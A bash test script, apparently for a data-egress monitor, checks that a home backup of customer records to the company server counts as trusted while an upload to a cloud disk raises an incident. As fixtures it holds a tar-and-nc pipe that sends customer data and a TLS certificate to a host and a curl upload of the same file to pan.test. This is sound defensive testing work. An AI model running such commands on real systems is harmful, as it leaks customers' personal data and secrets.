#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# To be left alone: the backup of a home with customer data in it to the company's own server.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves pan.test
store_serves backup.corp 873
weir_watches

alice_does <<'END'
for number in 1 2 3 4 5; do
	curl -sS "https://crm.test/policy/P20208000$number" >>customers.json
done
tar -cf - customers.json .tls.crt | nc -N backup.corp 873
END
saved_at_least=$(stat -c %s "$home/customers.json")
eventually 10 test "$(received_bytes backup.corp)" -gt "$saved_at_least"
saved=$(received_bytes backup.corp)
then_it "the backup is made ($saved bytes)" test "$saved" -gt "$saved_at_least"
soon "the way to the backup is known, to the byte, as a trusted one" \
	events_say "sum(e['bytes'] for e in d if e['object'].get('zone') == 'backup.corp' and e['direction'] == 'out') == $saved
		and all(e['object']['role'] == 'trusted' for e in d if e['object'].get('zone') == 'backup.corp')"
then_it "no egress" events_say "not [e for e in d if e['kind'] == 'egress']"
then_it "no incident" incidents_say "d == []"

say "the other side of the silence: the same rows to a cloud disk"
alice_does <<'END'
curl -sS -F file=@customers.json https://pan.test/upload
END
soon "that is an incident, and the backup has no part in it" \
	incidents_say "len(d) == 1 and [s['name'] for s in d[0]['sinks']] == ['pan.test']"
